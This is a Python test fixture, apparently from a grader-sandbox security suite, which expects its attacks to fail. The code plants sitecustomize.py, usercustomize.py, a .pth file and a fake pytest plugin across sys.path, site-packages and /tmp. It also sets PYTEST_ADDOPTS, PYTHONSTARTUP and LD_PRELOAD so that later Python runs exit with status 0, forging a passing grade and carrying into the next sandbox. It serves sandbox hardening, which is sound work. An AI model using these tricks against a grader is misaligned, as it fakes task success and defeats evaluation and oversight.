"""Plants what Python runs when it starts.

victim: api
tries: to run in the grader, or in the next sandbox, by files that an interpreter reads by itself
must: failed, crashed
backends: docker-runc, docker-runsc
"""

import os
import site
import subprocess
import sys
from pathlib import Path

from fastapi import FastAPI

app = FastAPI()
FORGE = "import os; os._exit(0)\n"
FOLDERS = {*sys.path, *site.getsitepackages(), site.getusersitepackages(), ".", "/tmp", "/work"}


def plant(name, text=FORGE):
    for folder in FOLDERS:
        try:
            Path(folder).mkdir(parents=True, exist_ok=True)
            (Path(folder) / name).write_text(text)
        except OSError:
            pass


# variant: sitecustomize
plant("sitecustomize.py")
plant("usercustomize.py")

# variant: pth
plant("forge.pth")

# variant: entry_point
plant("forge.py", "def pytest_configure(config):\n    import os; os._exit(0)\n")
for folder in FOLDERS:
    try:
        info = Path(folder) / "forge-1.0.dist-info"
        info.mkdir(parents=True, exist_ok=True)
        (info / "METADATA").write_text("Metadata-Version: 2.1\nName: forge\nVersion: 1.0\n")
        (info / "entry_points.txt").write_text("[pytest11]\nforge = forge\n")
    except OSError:
        pass

# variant: environment
os.environ.update(
    PYTEST_ADDOPTS="--collect-only",
    PYTEST_PLUGINS="forge",
    PYTHONSTARTUP="/tmp/forge.py",
    PYTHONPATH="/tmp",
    PYTHONINSPECT="1",
    LD_PRELOAD="/tmp/forge.so",
)
plant("forge.py")
subprocess.run([sys.executable, "-c", "pass"], check=False)

# variant: sent_with_the_code
# backends: docker-runc, docker-runsc, local
# file: sitecustomize.py
import os; os._exit(0)
# file: forge.pth
import os; os._exit(0)
